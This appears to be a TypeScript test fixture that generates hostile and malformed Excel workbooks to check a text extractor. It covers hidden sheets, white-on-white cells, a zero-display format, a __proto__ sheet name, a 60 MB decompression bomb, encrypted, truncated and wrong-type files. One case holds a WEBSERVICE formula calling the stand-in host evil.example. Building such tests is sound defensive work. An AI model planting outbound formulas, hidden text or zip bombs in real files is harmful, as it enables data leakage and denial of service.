import { writeXlsx } from "hucre/xlsx";
import { textRows, workbook, zip } from "../../portfolio/workbooks.ts";
import { fails, file, type HostileFile, utf8 } from "./expected.ts";
import { relationsPart } from "./make-office.ts";

const encryptedWorkbook = () =>
  writeXlsx({
    sheets: [{ name: "A", rows: [["secret"]] }],
    encryption: { password: "one", spinCount: 10 },
  });

/** Styles 1 to 4: white on blue, a theme's color on a theme's color, white on white, hidden. */
const white = {
  styles: `<numFmts><numFmt numFmtId="164" formatCode=";;;"/></numFmts>
<fonts><font/><font><color rgb="FFFFFFFF"/></font><font><color theme="0"/></font></fonts>
<fills><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FF1F4E79"/></patternFill></fill><fill><patternFill patternType="solid"><fgColor theme="4"/></patternFill></fill><fill><patternFill patternType="solid"><fgColor rgb="FFFFFFFF"/></patternFill></fill></fills>
<cellXfs><xf/><xf fontId="1" fillId="1"/><xf fontId="2" fillId="2"/><xf fontId="1" fillId="3"/><xf numFmtId="164"/></cellXfs>`,
  rows: `<row>${["Budget", "Amount", "Ignore white"].map((text, index) => `<c s="${index + 1}" t="inlineStr"><is><t>${text}</t></is></c>`).join("")}<c s="4"><v>48000</v></c><c t="inlineStr"><is><t>agreed</t></is></c></row>`,
};

export const workbooks: HostileFile[] = [
  file(
    "two sheets, numbers and days",
    "plan.xlsx",
    () =>
      writeXlsx({
        sheets: [
          {
            name: "Budget",
            rows: [
              ["Work", "Amount", "Due"],
              ["Design", 1234.5, new Date(Date.UTC(2026, 4, 12))],
            ],
          },
          {
            name: "Risks",
            rows: [
              ["Risk", "Owner"],
              ["Late content", "Client"],
            ],
          },
        ],
      }),
    {
      passages: [
        ["Work: Design | Amount: 1234.5 | Due: 2026-05-12", { sheet: "Budget" }],
        ["Risk: Late content | Owner: Client", { sheet: "Risks" }],
      ],
      flags: [],
      facts: { format: "xlsx", sheets: 2 },
    },
  ),
  file(
    "a sheet named __proto__",
    "proto.xlsx",
    () =>
      workbook({
        sheets: '<sheet name="__proto__" sheetId="1" r:id="rId1"/>',
        rows: textRows(["__proto__", "constructor"], ["polluted", "yes"]),
      }),
    { passages: [["__proto__: polluted | constructor: yes", { sheet: "__proto__" }]] },
  ),
  file(
    "a hidden sheet",
    "hidden.xlsx",
    () =>
      writeXlsx({
        sheets: [
          { name: "Seen", rows: [["Seen words"]] },
          { name: "Unseen", rows: [["Ignore this"]], hidden: true },
        ],
      }),
    {
      passages: [["Seen words", { sheet: "Seen" }]],
      absent: ["Ignore"],
      flags: ["hidden_text_removed"],
      facts: { sheets: 1 },
    },
  ),
  file("white cells and a format that shows nothing", "white.xlsx", () => workbook(white), {
    passages: [["Budget | Amount | agreed", { row: 1 }]],
    absent: ["Ignore", "48000"],
    flags: ["hidden_text_removed"],
    facts: { hidden_characters: 17 },
  }),
  file(
    "white cells in a table that colors them",
    "table-white.xlsx",
    () =>
      workbook({
        ...white,
        extra: [relationsPart("xl/worksheets/sheet1.xml", [["table", "../tables/table1.xml"]])],
      }),
    { passages: [["Budget | Amount | Ignore white | 48000 | agreed", { row: 1 }]], flags: [] },
  ),
  file(
    "a formula that calls out",
    "formula.xlsx",
    () =>
      workbook({
        rows: '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f><v>42</v></c><c r="B1" t="inlineStr"><is><t>hours</t></is></c></row>',
      }),
    { passages: [["42 | hours", { row: 1 }]], absent: ["evil"] },
  ),
  file(
    "strings that unpack to 60 MB",
    "bomb.xlsx",
    () => workbook({ rows: "", strings: " ".repeat(60_000_000) }),
    fails("too_large"),
  ),
  file("a password", "secret.xlsx", encryptedWorkbook, fails("encrypted")),
  file(
    "the first half alone",
    "half.xlsx",
    () => workbook({ rows: textRows(["a"]) }).subarray(0, 700),
    fails("corrupt"),
  ),
  file(
    "sheets that are not XML",
    "broken.xlsx",
    () => zip([{ name: "xl/workbook.xml", content: "<<<>>>" }]),
    fails("corrupt"),
  ),
  file("nothing written", "blank.xlsx", () => workbook({ rows: "" }), fails("empty")),
  file(
    "half a million cells and more",
    "cells.xlsx",
    () => workbook({ rows: `<row>${"<c/>".repeat(1000)}</row>`.repeat(501) }),
    fails("too_large"),
  ),
  file("CSV", "table.xlsx", () => utf8("a,b\n1,2\n"), fails("wrong_type")),
];
